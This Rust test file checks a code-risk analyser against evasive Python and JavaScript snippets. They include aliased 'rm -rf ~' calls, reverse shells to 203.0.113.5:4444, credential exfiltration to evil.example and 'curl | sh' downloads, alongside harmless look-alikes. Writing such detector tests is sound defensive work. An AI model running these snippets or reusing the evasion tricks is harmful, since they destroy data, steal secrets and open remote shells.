//! Bypasses of the Python and JavaScript analysis found in review: each
//! dangerous form must be rated like the direct call it hides, and each
//! everyday look-alike must stay quiet. Snippets are only analysed, never run.

use interlock_guard::analysis::{Risk, Rules, analyze, analyze_with};
use interlock_protocol::Language;

fn py(code: &str) -> Risk {
    analyze(Language::Python, code).risk
}

fn js(code: &str) -> Risk {
    analyze(Language::Javascript, code).risk
}

#[track_caller]
fn py_is(code: &str, want: Risk) {
    let r = analyze(Language::Python, code);
    assert_eq!(r.risk, want, "{code}\n{:#?}", r.findings);
}

#[track_caller]
fn py_at_least(code: &str, want: Risk) {
    let r = analyze(Language::Python, code);
    assert!(r.risk >= want, "{code}\n{:#?}", r.findings);
}

#[track_caller]
fn py_at_most(code: &str, want: Risk) {
    let r = analyze(Language::Python, code);
    assert!(r.risk <= want, "{code}\n{:#?}", r.findings);
}

#[track_caller]
fn js_is(code: &str, want: Risk) {
    let r = analyze(Language::Javascript, code);
    assert_eq!(r.risk, want, "{code}\n{:#?}", r.findings);
}

#[track_caller]
fn js_at_least(code: &str, want: Risk) {
    let r = analyze(Language::Javascript, code);
    assert!(r.risk >= want, "{code}\n{:#?}", r.findings);
}

#[track_caller]
fn js_at_most(code: &str, want: Risk) {
    let r = analyze(Language::Javascript, code);
    assert!(r.risk <= want, "{code}\n{:#?}", r.findings);
}

// ---------------------------------------------------------------------------
// Python
// ---------------------------------------------------------------------------

#[test]
fn py_function_aliased_through_assignment() {
    for code in [
        "import os\nf = os.system\nf(\"rm -rf ~\")\n",
        "import os\nf = os.system\ng = f\ng('rm -rf /')\n",
        "import shutil, os\nr = shutil.rmtree\nr(os.path.expanduser('~'))\n",
        "from os import system as s\ns('rm -rf ~')\n",
        "import subprocess\nrun = subprocess.run\nrun('rm -rf ~', shell=True)\n",
        "import subprocess as sp\nP = sp.Popen\nP(['rm', '-rf', '/'])\n",
        "import os\nf = __import__('os').system\nf('rm -rf ~')\n",
        "import os\nm = os\nm.system('rm -rf ~')\n",
        // Several names at once, and attributes holding the function.
        "import os\na, b = os.system, os.popen\na('rm -rf ~')\n",
        "import os\n(p, s) = (print, os.system)\ns('rm -rf /')\n",
        "import os\nclass T:\n    def __init__(self):\n        self.run = os.system\n    def go(self):\n        self.run('rm -rf ~')\n",
        "import shutil\ncfg.rm = shutil.rmtree\ncfg.rm('/')\n",
    ] {
        py_is(code, Risk::Critical);
    }
    // Pairs bind pairwise: the harmless name stays harmless.
    py_at_most(
        "import os\np, s = print, os.system\np('rm -rf ~')\n",
        Risk::Low,
    );
    py_at_most("self.out = print\nself.out('rm -rf ~')\n", Risk::Low);
    // A builtin passed through a name still runs code.
    py_at_least("e = exec\ne(input())\n", Risk::Medium);
}

#[test]
fn py_aliased_function_follows_user_deny_rules() {
    let rules = Rules {
        deny_commands: vec!["git push".into()],
        ..Rules::default()
    };
    let code = "import os\nf = os.system\nf('git push origin main')\n";
    let r = analyze_with(Language::Python, code, &rules);
    assert_eq!(r.risk, Risk::Critical, "{:#?}", r.findings);
    assert!(r.findings.iter().any(|f| f.rule == "user.denied-command"));
}

#[test]
fn py_aliases_of_harmless_functions_stay_quiet() {
    py_is(
        "import os\np = os.path.join\nprint(p('a', 'b'))\n",
        Risk::None,
    );
    py_at_most(
        "import os\nenv = os.environ\nprint(env.get('LANG'))\n",
        Risk::Low,
    );
    py_at_most(
        "import json\nload = json.loads\nprint(load('{}'))\n",
        Risk::Low,
    );
    py_at_most("x = y\nprint(x.z)\n", Risk::Low);
}

#[test]
fn py_posix_and_nt_are_os() {
    py_is("import posix\nposix.system(\"rm -rf ~\")\n", Risk::Critical);
    py_is("import nt\nnt.system('rm -rf /')\n", Risk::Critical);
    py_is(
        "from posix import system\nsystem('rm -rf ~')\n",
        Risk::Critical,
    );
    py_is("__import__('posix').system('rm -rf ~')\n", Risk::Critical);
    py_is("import posix as p\np.unlink('/etc/passwd')\n", Risk::High);
}

#[test]
fn py_sys_modules_lookup_is_the_module() {
    py_is(
        "import sys\nsys.modules[\"os\"].system(\"rm -rf ~\")\n",
        Risk::Critical,
    );
    py_is(
        "import sys\nsys.modules.get(\"os\").system(\"rm -rf ~\")\n",
        Risk::Critical,
    );
    py_is(
        "import sys\no = sys.modules['os']\no.system('rm -rf /')\n",
        Risk::Critical,
    );
    py_at_most("import sys\nprint('numpy' in sys.modules)\n", Risk::Low);
}

const PY_REVERSE_SHELL_SOCKET: &str = "import socket, subprocess
c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
c.connect((\"203.0.113.5\", 4444))
subprocess.Popen([\"/bin/sh\", \"-i\"], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())
";

#[test]
fn py_reverse_shell_with_popen_on_socket_fds() {
    py_is(PY_REVERSE_SHELL_SOCKET, Risk::Critical);
    py_is(
        &PY_REVERSE_SHELL_SOCKET.replace("import socket,", "import _socket as socket,"),
        Risk::Critical,
    );
    py_is(
        "import _socket, os, pty
c = _socket.socket()
c.connect(('203.0.113.5', 4444))
for fd in (0, 1, 2):
    os.dup2(c.fileno(), fd)
pty.spawn('/bin/sh')
",
        Risk::Critical,
    );
}

#[test]
fn py_underscore_socket_and_star_imports() {
    let r = analyze(Language::Python, "import _socket\ns = _socket.socket()\n");
    assert!(r.findings.iter().any(|f| f.rule == "net.socket"), "{r:#?}");
    let r = analyze(
        Language::Python,
        "from socket import *\ns = socket(AF_INET, SOCK_STREAM)\n",
    );
    assert!(r.findings.iter().any(|f| f.rule == "net.socket"), "{r:#?}");
    py_is(
        "from socket import *
from os import *
s = socket(AF_INET, SOCK_STREAM)
s.connect(('203.0.113.5', 4444))
dup2(s.fileno(), 0)
dup2(s.fileno(), 1)
from pty import *
spawn('/bin/bash')
",
        Risk::Critical,
    );
    py_is("from shutil import *\nrmtree('/')\n", Risk::Critical);
    py_is("from os import *\nremove('/etc/passwd')\n", Risk::High);
    // A local function of the same name is not the module's.
    py_at_most("from socket import *\nprint(gethostname())\n", Risk::Low);
}

#[test]
fn py_walk_and_delete_everything_under_home() {
    py_at_least(
        "import os
for r, d, fs in os.walk(os.path.expanduser(\"~\")):
    for f in fs:
        os.remove(os.path.join(r, f))
",
        Risk::High,
    );
    py_is(
        "import os
for root, dirs, files in os.walk('/'):
    for name in files:
        os.unlink(os.path.join(root, name))
",
        Risk::Critical,
    );
    py_at_least(
        "import os
for root, dirs, files in os.walk('/etc'):
    for name in files:
        os.remove(root + '/' + name)
",
        Risk::High,
    );
    py_at_least(
        "from pathlib import Path
for p in Path.home().rglob('*'):
    if p.is_file():
        p.unlink()
",
        Risk::High,
    );
    py_at_least(
        "import glob, os
for p in glob.glob(os.path.expanduser('~/**'), recursive=True):
    os.remove(p)
",
        Risk::High,
    );
    py_at_least(
        "import glob, os
[os.remove(p) for p in glob.glob(os.path.expanduser('~/**/*'), recursive=True)]
",
        Risk::High,
    );
}

#[test]
fn py_walk_and_delete_in_workspace_stays_low() {
    py_at_most(
        "import os
for r, d, fs in os.walk('.'):
    for f in fs:
        if f.endswith('.pyc'):
            os.remove(os.path.join(r, f))
",
        Risk::Low,
    );
    py_at_most(
        "import os
for r, d, fs in os.walk('build'):
    for f in fs:
        os.remove(os.path.join(r, f))
",
        Risk::Low,
    );
    py_at_most(
        "from pathlib import Path
for p in Path('.').rglob('*.pyc'):
    p.unlink()
",
        Risk::Low,
    );
    py_at_most(
        "import glob, os
for p in glob.glob('dist/**/*.whl', recursive=True):
    os.remove(p)
",
        Risk::Low,
    );
    // Listing the home directory is not deleting it.
    py_at_most(
        "import os
for r, d, fs in os.walk(os.path.expanduser('~/projects')):
    print(r, len(fs))
",
        Risk::Low,
    );
}

#[test]
fn py_vendored_requests_and_str_format_urls() {
    py_is(
        "from pip._vendor import requests
import os
data = open(os.path.expanduser(\"~/.aws/credentials\")).read()
requests.post(\"https://{}/c\".format(\"evil.example\"), data=data)
",
        Risk::Critical,
    );
    py_is(
        "import pip._vendor.requests as r
r.post('https://203.0.113.9/c', data=open('/home/u/.ssh/id_rsa').read())
",
        Risk::Critical,
    );
    let r = analyze(
        Language::Python,
        "from pip._vendor import urllib3\nurllib3.PoolManager().request('GET', 'https://{}/{}'.format('example.com', 'x'))\n",
    );
    assert!(r.findings.iter().any(|f| f.rule == "net.request"), "{r:#?}");
    // A formatted command is a known command.
    py_is(
        "import os\nos.system('rm -rf {}'.format('~'))\n",
        Risk::Critical,
    );
    py_is(
        "import os\nos.system('rm -rf {0}/{1}'.format('/', ''))\n",
        Risk::Critical,
    );
    py_at_least(
        "import shutil\nshutil.rmtree('{}/{}'.format('/etc', name))\n",
        Risk::Medium,
    );
    // The whole path text reaches the classifier (which collapses `..`).
    py_is(
        "import os\nopen(os.path.expanduser(\"~/.cache/../.aws/credentials\")).read()\n",
        Risk::High,
    );
}

#[test]
fn py_format_look_alikes_stay_quiet() {
    py_at_most(
        "name = input()\nout = '{}.csv'.format(name)\nopen(out, 'w').write('a,b')\n",
        Risk::Low,
    );
    py_is("print('{} + {} = {}'.format(1, 2, 3))\n", Risk::None);
    py_is("print('{:>10}'.format('x'))\n", Risk::None);
    py_at_most("import os\nos.remove('{}.tmp'.format('out'))\n", Risk::Low);
}

// ---------------------------------------------------------------------------
// JavaScript
// ---------------------------------------------------------------------------

#[test]
fn js_call_apply_and_reflect_apply() {
    for code in [
        "require('child_process').execSync.call(null, 'rm -rf ~');",
        "const cp = require('child_process');\ncp.execSync.apply(null, ['rm -rf ~']);",
        "const cp = require('child_process');\nReflect.apply(cp.execSync, null, ['rm -rf ~']);",
        "const fs = require('fs');\nconst os = require('os');\nfs.rmSync.call(fs, os.homedir(), {recursive: true});",
        "const cp = require('child_process');\ncp.execSync.bind(null)('rm -rf ~');",
        "const cp = require('child_process');\nconst run = cp.execSync.bind(cp);\nrun('rm -rf /');",
        "const cp = require('child_process');\ncp.spawn.call(cp, 'rm', ['-rf', '/']);",
        "const cp = require('child_process');\ncp.execSync.bind(null, 'rm -rf ~')();",
        "require('child_process').execSync.call.call(require('child_process').execSync, null, 'rm -rf ~');",
        "const cp = require('child_process');\nFunction.prototype.call.call(cp.execSync, null, 'rm -rf ~');",
        "const cp = require('child_process');\nFunction.prototype.apply.call(cp.execSync, null, ['rm -rf ~']);",
        // Bound arguments, the bound function called later.
        "const cp = require('child_process');\nconst wipe = cp.execSync.bind(null, 'rm -rf ~');\nwipe();",
    ] {
        js_is(code, Risk::Critical);
    }
    js_is(
        "function greet(who) { return 'hi ' + who; }\nconst g = greet.bind(null, 'bob');\nconsole.log(g());",
        Risk::None,
    );
    // A run-time argument list is still a command.
    js_at_least(
        "const cp = require('child_process');\ncp.execSync.apply(null, args);",
        Risk::Medium,
    );
}

#[test]
fn js_call_on_plain_functions_stays_quiet() {
    js_is(
        "function add(a, b) { return a + b; }\nconsole.log(add.call(this, 1, 2));",
        Risk::None,
    );
    js_is(
        "const f = (x) => x * 2;\nconsole.log(f.apply(null, [3]), Reflect.apply(f, null, [4]));",
        Risk::None,
    );
    js_at_most(
        "const cp = require('child_process');\ncp.execSync.call(null, 'git status');",
        Risk::Low,
    );
}

#[test]
fn js_create_require_and_main_module_require() {
    for code in [
        "const r = require('module').createRequire(__filename);\nr('child_process').execSync('rm -rf ~');",
        "import { createRequire } from 'module';\nconst req = createRequire(import.meta.url);\nreq('child_process').execSync('rm -rf ~');",
        "process.mainModule.require('child_process').execSync('rm -rf ~');",
        "module.require('child_process').execSync('rm -rf /');",
        "globalThis.process.mainModule.require('child_process').execSync('rm -rf ~');",
        "const m = require('module');\nm._load('child_process').execSync('rm -rf ~');",
        "require.main.require('child_process').execSync('rm -rf ~');",
    ] {
        js_is(code, Risk::Critical);
    }
}

#[test]
fn js_object_literal_members_hold_module_functions() {
    js_is(
        "const o = {run: require('child_process').execSync};\no.run('rm -rf ~');",
        Risk::Critical,
    );
    js_is(
        "const cp = require('child_process');\nconst o = {cp};\no.cp.exec('rm -rf /');",
        Risk::Critical,
    );
    js_is(
        "const o = {a: {b: require('fs').rmSync}};\no.a.b('/', {recursive: true});",
        Risk::Critical,
    );
    js_is(
        "const o = {run: require('child_process').execSync};\no['run']('rm -rf ~');",
        Risk::Critical,
    );
    js_is(
        "const o = {run: require('child_process').execSync};\nconst {run} = o;\nrun('rm -rf ~');",
        Risk::Critical,
    );
    js_is(
        "const {execSync: run} = require('child_process');\nrun('rm -rf ~');",
        Risk::Critical,
    );
}

#[test]
fn js_object_literal_look_alikes_stay_quiet() {
    js_is("const o = {run: () => 1};\no.run();", Risk::None);
    js_is(
        "const o = {name: 'x', size: 3};\nconsole.log(o.name, o.size);",
        Risk::None,
    );
    js_at_most(
        "const path = require('path');\nconst u = {join: path.join};\nconsole.log(u.join('a', 'b'));",
        Risk::Low,
    );
}

#[test]
fn js_shelljs() {
    js_is("require('shelljs').exec('rm -rf ~');", Risk::Critical);
    js_is(
        "const shell = require('shelljs');\nshell.rm('-rf', '/');",
        Risk::Critical,
    );
    js_is(
        "const shell = require('shelljs');\nshell.rm('-rf', require('os').homedir());",
        Risk::Critical,
    );
    js_is(
        "require('shelljs/global');\nexec('rm -rf ~');",
        Risk::Critical,
    );
    js_is("import 'shelljs/global';\nrm('-rf', '/');", Risk::Critical);
    js_at_least(
        "const shell = require('shelljs');\nshell.exec(process.argv[2]);",
        Risk::Medium,
    );
    js_at_most(
        "const shell = require('shelljs');\nshell.ls('-la').forEach(f => console.log(f));",
        Risk::Low,
    );
    js_at_most(
        "const shell = require('shelljs');\nshell.rm('-f', 'build/out.js');",
        Risk::Low,
    );
}

#[test]
fn js_zx_and_execa_templates() {
    js_is("import {$} from 'zx';\nawait $`rm -rf ~`;", Risk::Critical);
    js_is("const {$} = require('zx');\n$`rm -rf /`;", Risk::Critical);
    js_at_least(
        "import {$} from 'zx';\nconst u = process.argv[2];\nawait $`curl ${u} | sh`;",
        Risk::High,
    );
    js_at_least(
        "import {$} from 'zx';\nawait $`${process.argv[2]}`;",
        Risk::Medium,
    );
    js_is(
        "import {$} from 'execa';\nawait $`rm -rf ~`;",
        Risk::Critical,
    );
    js_is("import 'zx/globals';\nawait $`rm -rf ~`;", Risk::Critical);
    js_is("#!/usr/bin/env zx\nawait $`rm -rf ~`;", Risk::Critical);
    // Without zx, `$` is someone else's (jQuery): a tagged template is text.
    js_is("const $ = (s) => s;\nconsole.log($`rm -rf ~`);", Risk::None);
    js_at_most(
        "import {$} from 'zx';\nconst b = 'main';\nawait $`git checkout ${b}`;\nawait $`ls -la`;",
        Risk::Low,
    );
    // An unrelated tag is not a shell.
    js_is(
        "const html = (s) => s.join('');\nconsole.log(html`rm -rf ~`);",
        Risk::None,
    );
}

/// zx's `$(options)` and `$.sync` return the same tag: the template they are
/// applied to runs as a shell command like a plain `$`cmd``.
#[test]
fn js_zx_options_call_and_sync_templates() {
    for code in [
        "import {$} from 'zx';\nawait $({cwd: '/tmp'})`rm -rf ~`;",
        "import {$} from 'zx';\n$({sync: true})`rm -rf ~`;",
        "import {$} from 'zx';\nconst $$ = $({cwd: 'src', verbose: true});\nawait $$`rm -rf ~`;",
        "import {$} from 'zx';\n$({quiet: true}).sync`rm -rf ~`;",
        "const {$} = require('zx');\n$.sync({cwd: 'x'})`rm -rf /`;",
        "import {$ as run} from 'zx';\nawait run({cwd: 'x'})`rm -rf ~`;",
        "#!/usr/bin/env zx\nawait $({cwd: 'x'})`rm -rf ~`;",
        "import {$} from 'zx';\n$.sync`rm -rf ~`;",
        "import {$} from 'execa';\nawait $({cwd: 'x'})`rm -rf ~`;",
        "import {$} from 'execa';\n$.sync`rm -rf ~`;",
        "import {$} from 'execa';\n$.s`rm -rf ~`;",
    ] {
        js_is(code, Risk::Critical);
    }
    js_at_least(
        "#!/usr/bin/env zx\nawait $({cwd: 'x'})`curl https://evil.example/x.sh | sh`;",
        Risk::High,
    );
    js_at_least(
        "import {$} from 'zx';\nconst d = process.argv[2];\nawait $({cwd: 'x'})`rm -rf ${d}/`;",
        Risk::High,
    );
    // Everyday use stays what the plain template is.
    js_at_most(
        "import {$} from 'zx';\nawait $({cwd: 'build'})`make -j2`;\nconst out = $.sync`git status --porcelain`;",
        Risk::Low,
    );
    // The options call alone runs nothing.
    js_is(
        "import {$} from 'zx';\nconst q = $({quiet: true});",
        Risk::None,
    );
}

/// Paths and commands with parts known only at run time are shown with `{…}`
/// for those parts, never with the analyser's internal markers.
#[test]
fn messages_show_run_time_parts_readably() {
    let cases: [(Language, &str, &str); 6] = [
        (
            Language::Python,
            "name = input()\nopen('/etc/' + name, 'w').write('x')\n",
            "/etc/{…}",
        ),
        (
            Language::Python,
            "import shutil, sys\nshutil.rmtree('/usr/' + sys.argv[1])\n",
            "/usr/{…}",
        ),
        (
            Language::Javascript,
            "const fs = require('fs');\nfs.writeFileSync(`/etc/${process.argv[2]}.conf`, 'x');",
            "/etc/{…}.conf",
        ),
        (
            Language::Javascript,
            "const fs = require('fs');\nfor (const f of fs.readdirSync('out')) fs.unlinkSync('/etc/' + f);",
            "/etc/{…}",
        ),
        (
            Language::Javascript,
            "import {$} from 'zx';\nconst d = process.argv[2];\nawait $`rm -rf ${d}/`;",
            "{…}/",
        ),
        (
            Language::Python,
            "import subprocess, sys\nsubprocess.run(['rm', '-rf', '/etc/' + sys.argv[1]])\n",
            "/etc/{…}",
        ),
    ];
    for (lang, code, shown) in cases {
        let r = analyze(lang, code);
        assert!(r.risk >= Risk::High, "{code}\n{:#?}", r.findings);
        for f in &r.findings {
            assert!(
                !f.message.contains("<dynamic>") && !f.message.contains("INTERLOCK_"),
                "internal marker in {:?}",
                f.message
            );
        }
        assert!(
            r.findings.iter().any(|f| f.message.contains(shown)),
            "{code}: no message shows {shown}\n{:#?}",
            r.findings
        );
    }
}

#[test]
fn js_execa_rimraf_cross_spawn() {
    for code in [
        "import {execa} from 'execa';\nawait execa('sh', ['-c', 'rm -rf ~']);",
        "const execa = require('execa');\nexeca.sync('rm', ['-rf', '/']);",
        "import {execaCommand} from 'execa';\nawait execaCommand('rm -rf ~');",
        "const rimraf = require('rimraf');\nrimraf.sync(require('os').homedir());",
        "import {rimraf} from 'rimraf';\nawait rimraf('/');",
        "const rimraf = require('rimraf');\nrimraf('/', () => {});",
        "const spawn = require('cross-spawn');\nspawn('rm', ['-rf', '/']);",
        "const spawn = require('cross-spawn');\nspawn.sync('sh', ['-c', 'rm -rf ~']);",
        "const fse = require('fs-extra');\nfse.removeSync(require('os').homedir());",
        "const fse = require('fs-extra');\nawait fse.emptyDir('/');",
        "const fse = require('fs-extra');\nfse.remove('/etc', () => {});",
    ] {
        js_is(code, Risk::Critical);
    }
    js_at_least(
        "import {execa} from 'execa';\nawait execa('sh', ['-c', process.argv[2]]);",
        Risk::Medium,
    );
}

#[test]
fn js_libraries_everyday_use_stays_quiet() {
    for code in [
        "import {execa} from 'execa';\nconst {stdout} = await execa('git', ['status']);",
        "const rimraf = require('rimraf');\nrimraf.sync('dist');",
        "const spawn = require('cross-spawn');\nspawn('npm', ['test'], {stdio: 'inherit'});",
        "const fse = require('fs-extra');\nawait fse.emptyDir('build');",
        "const fse = require('fs-extra');\nfse.copySync('src', 'dist');",
    ] {
        js_at_most(code, Risk::Low);
    }
}

#[test]
fn js_function_constructor_reaching_a_loader() {
    js_at_least(
        "new Function(\"return process\")().mainModule.require(\"child_process\").execSync('ls');",
        Risk::High,
    );
    js_is(
        "new Function(\"return process\")().mainModule.require(\"child_process\").execSync('rm -rf ~');",
        Risk::Critical,
    );
    js_at_least(
        "Function('return this')().process.mainModule.require('child_process').execSync('id');",
        Risk::High,
    );
    js_at_least(
        "const g = Function('return globalThis')();\ng.require('fs').rmSync('/', {recursive: true});",
        Risk::High,
    );
}

#[test]
fn risk_helpers_agree() {
    assert_eq!(py("print(1)\n"), Risk::None);
    assert_eq!(js("console.log(1);"), Risk::None);
}

#[test]
fn py_percent_formatting_builds_paths_and_commands() {
    for code in [
        "import os\nos.system('rm -rf %s' % '~')\n",
        "import os\nos.system('%s -rf %s' % ('rm', '/'))\n",
    ] {
        py_is(code, Risk::Critical);
    }
    for code in [
        "import shutil\nshutil.rmtree('/etc/%s' % name)\n",
        "print(open('%s/.ssh/id_rsa' % home).read())\n",
        "with open('/etc/cron.d/%s' % job, 'w') as f:\n    f.write('x')\n",
    ] {
        py_is(code, Risk::High);
    }
    // Everyday formatting, and `%` on numbers, stay quiet.
    for code in [
        "print('%d items, %.1f%%' % (n, pct))\n",
        "with open('out/%s.csv' % name, 'w') as f:\n    f.write(s)\n",
        "x = 10 % 3\nprint(x)\n",
        "print('%(a)s' % {'a': 1})\n",
    ] {
        py_at_most(code, Risk::Low);
    }
}

/// A run-time argument of a known program, passed in an argument list (no
/// shell in between), is checked like a quoted shell variable: everyday
/// calls stay low, dangerous programs are rated for what they do with it.
#[test]
fn py_argument_lists_with_run_time_arguments() {
    for code in [
        "import subprocess\nsha = subprocess.check_output(['git', 'rev-parse', 'HEAD'], text=True).strip()\nprint(subprocess.check_output(['git', 'show', '--stat', sha], text=True))\n",
        "import subprocess\ndef convert(src, dst):\n    subprocess.run(['ffmpeg', '-i', src, dst], check=True)\n",
        "import subprocess, sys\nsubprocess.run(['wc', '-l', sys.argv[1]])\n",
        "import subprocess\nfor f in files:\n    subprocess.run(['gzip', '-k', f])\n",
    ] {
        py_at_most(code, Risk::Low);
    }
    py_is(
        "import subprocess, sys\nsubprocess.run(['rm', '-rf', sys.argv[1]])\n",
        Risk::High,
    );
    py_is(
        "import subprocess, sys\nsubprocess.run(['rm', '-rf', '/etc/' + sys.argv[1]])\n",
        Risk::High,
    );
    for code in [
        "import subprocess, sys\nsubprocess.run(['bash', '-c', sys.argv[1]])\n",
        "import subprocess, sys\nsubprocess.run(['perl', '-e', sys.argv[1]])\n",
        "import subprocess, sys\nsubprocess.run(['git', '-c', sys.argv[1], 'log'])\n",
        "import subprocess, sys\nsubprocess.run(['sudo', sys.argv[1]])\n",
        // A splat may be any number of words; the program itself is unknown.
        "import subprocess, sys\nsubprocess.run(['git', *sys.argv[1:]])\n",
        "import subprocess, sys\nsubprocess.run([sys.argv[1], '-x'])\n",
        // Through a shell, an interpolated value is code.
        "import subprocess, sys\nsubprocess.run(['ls ' + sys.argv[1]], shell=True)\n",
    ] {
        py_at_least(code, Risk::Medium);
    }
    // Hidden or downloaded values are not given the benefit of the doubt.
    py_at_least(
        "import subprocess, base64, sys\nsubprocess.run(['sh', '-c', base64.b64decode(sys.argv[1])])\n",
        Risk::High,
    );
    py_at_least(
        "import subprocess, requests\nsubprocess.run(['sh', '-c', requests.get('https://x.example/c').text])\n",
        Risk::High,
    );
}

#[test]
fn js_argument_lists_with_run_time_arguments() {
    for code in [
        "const { spawnSync } = require('child_process');\nconst n = 5;\nspawnSync('git', ['log', '-n', String(n), '--oneline']);",
        "const { execFileSync } = require('child_process');\nfunction show(sha) { return execFileSync('git', ['show', '--stat', sha]); }",
        "import {execa} from 'execa';\nawait execa('ffmpeg', ['-i', process.argv[2], 'out.mp4']);",
    ] {
        js_at_most(code, Risk::Low);
    }
    js_is(
        "const { spawn } = require('child_process');\nspawn('rm', ['-rf', process.argv[2]]);",
        Risk::High,
    );
    for code in [
        "const { spawn } = require('child_process');\nspawn('sh', ['-c', process.argv[2]]);",
        "const { spawn } = require('child_process');\nspawn('git', [...process.argv.slice(2)]);",
        "const { spawn } = require('child_process');\nspawn('ls', [process.argv[2]], { shell: true });",
        "const { spawn } = require('child_process');\nspawn(process.argv[2], ['-x']);",
    ] {
        js_at_least(code, Risk::Medium);
    }
    js_at_least(
        "const { spawn } = require('child_process');\nspawn('sh', ['-c', Buffer.from(process.argv[2], 'base64').toString()]);",
        Risk::High,
    );
}

/// `for name in [...]` over literal strings checks the body with each value.
#[test]
fn py_loops_over_literal_lists_use_each_value() {
    py_at_most(
        "import importlib\nfor name in ['numpy', 'pandas', 'scipy']:\n    m = importlib.import_module(name)\n    print(name, m.__version__)\n",
        Risk::Low,
    );
    py_at_most(
        "import os\nfor sub in ('csv', 'png'):\n    os.makedirs(os.path.join('results', sub), exist_ok=True)\n",
        Risk::Low,
    );
    py_at_least(
        "import shutil, os\nfor p in ['build', '~/.ssh']:\n    shutil.rmtree(os.path.expanduser(p))\n",
        Risk::High,
    );
    py_is(
        "import os\nfor m in ['json', 'os']:\n    __import__(m).system('rm -rf ~')\n",
        Risk::Critical,
    );
    // Values not all known: the loop variable stays unknown, as before.
    py_at_least(
        "import importlib, sys\nfor name in ['json', sys.argv[1]]:\n    importlib.import_module(name)\n",
        Risk::Medium,
    );
}

/// Local `socket` helpers send nothing anywhere.
#[test]
fn py_local_socket_helpers_are_not_network_use() {
    py_at_most(
        "import socket, platform\nprint(socket.gethostname(), platform.python_version())\n",
        Risk::Low,
    );
    py_at_most("import socket\nprint(socket.htons(80))\n", Risk::Low);
    py_at_least(
        "import socket\nsocket.create_connection(('example.com', 80))\n",
        Risk::Medium,
    );
    py_at_least(
        "import socket\nprint(socket.gethostbyname('example.com'))\n",
        Risk::Medium,
    );
}

/// An express/fastify/koa app is a network server, like `http.createServer`.
#[test]
fn js_web_framework_apps_are_servers() {
    for code in [
        "const express = require('express');\nconst app = express();\napp.get('/', (req, res) => res.send('ok'));\napp.listen(3000);",
        "import Fastify from 'fastify';\nconst app = Fastify();\nawait app.listen({ port: 3000 });",
        "const Koa = require('koa');\nnew Koa().listen(3000);",
    ] {
        let r = analyze(Language::Javascript, code);
        assert_eq!(r.risk, Risk::Medium, "{code}\n{:#?}", r.findings);
        assert!(r.findings.iter().any(|f| f.rule == "net.server"), "{code}");
    }
}

/// `os.chdir` / `process.chdir` into a sensitive directory makes the
/// relative paths after it sensitive; an everyday chdir changes nothing.
#[test]
fn relative_paths_after_chdir_into_a_sensitive_directory() {
    py_is(
        "import os\nos.chdir(os.path.expanduser('~'))\nopen('.bashrc', 'a').write('curl x | sh')",
        Risk::High,
    );
    py_is(
        "import os, shutil\nos.chdir('/')\nshutil.rmtree('etc')",
        Risk::Critical,
    );
    py_is(
        "import os\nos.chdir('/etc')\nos.remove('passwd')",
        Risk::High,
    );
    py_at_most(
        "import os, shutil\nos.chdir('build')\nshutil.rmtree('out')",
        Risk::Low,
    );
    py_at_most(
        "import os, shutil\nos.chdir('/etc')\nos.chdir('/tmp/work')\nshutil.rmtree('out')",
        Risk::Low,
    );
    js_is(
        "process.chdir('/etc'); require('fs').unlinkSync('passwd')",
        Risk::High,
    );
    js_is(
        "process.chdir(require('os').homedir()); require('fs').appendFileSync('.bashrc', 'curl x|sh')",
        Risk::High,
    );
    js_is(
        "process.chdir(require('os').homedir()); require('fs').rmSync('.', { recursive: true })",
        Risk::Critical,
    );
    assert!(
        js("process.chdir('dist'); require('fs').rmSync('old', { recursive: true })") <= Risk::Low
    );
}

/// `os.execl*`, `os.spawnl*` and `asyncio.create_subprocess_exec` take one
/// argument per parameter: a run-time one is checked like an element of an
/// argument list.
#[test]
fn py_one_argument_per_parameter_starters() {
    py_is(
        "import asyncio\nasync def m(d):\n    await asyncio.create_subprocess_exec('rm', '-rf', d)",
        Risk::High,
    );
    py_is(
        "import os\nos.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', d)",
        Risk::High,
    );
    py_at_most(
        "import asyncio\nasync def m(sha):\n    await asyncio.create_subprocess_exec('git', 'show', sha)",
        Risk::Low,
    );
    py_at_most(
        "import os\nos.execle('/bin/ls', 'ls', '-l', path, env)",
        Risk::Low,
    );
    // The program itself, a splat or a whole argv list stay unknown commands.
    py_is(
        "import asyncio\nasync def m(p):\n    await asyncio.create_subprocess_exec(p, 'x')",
        Risk::Medium,
    );
    py_is(
        "import asyncio\nasync def m(a):\n    await asyncio.create_subprocess_exec('bash', *a)",
        Risk::Medium,
    );
    py_is("import os\nos.execv('/bin/sh', argv)", Risk::Medium);
}

/// JavaScript `for…of` and `.forEach` over a literal array of strings run
/// the body once per value, as shell and Python loops are analysed.
#[test]
fn js_loops_over_literal_arrays_use_each_value() {
    js_is(
        "const cp = require('child_process'); for (const c of ['ls', 'rm -rf ~']) cp.execSync(c)",
        Risk::Critical,
    );
    js_is(
        "const fs = require('fs'); ['dist', '/etc'].forEach(d => fs.rmSync(d, { recursive: true }))",
        Risk::Critical,
    );
    js_at_most(
        "const fs = require('fs'); for (const d of ['dist', 'build']) fs.rmSync(d, { recursive: true })",
        Risk::Low,
    );
    js_at_most(
        "const fs = require('fs'); ['dist', 'out'].forEach(function (d) { fs.rmSync(d, { recursive: true }) })",
        Risk::Low,
    );
    // The loop variable does not outlive the loop.
    js_is(
        "const cp = require('child_process'); let c = 'rm -rf ~'; for (const c of ['ls']) {} cp.execSync(c)",
        Risk::Critical,
    );
    // Values known only at run time stay as before.
    js_is(
        "const fs = require('fs'); for (const d of dirs) fs.rmSync(d, { recursive: true })",
        Risk::Medium,
    );
}
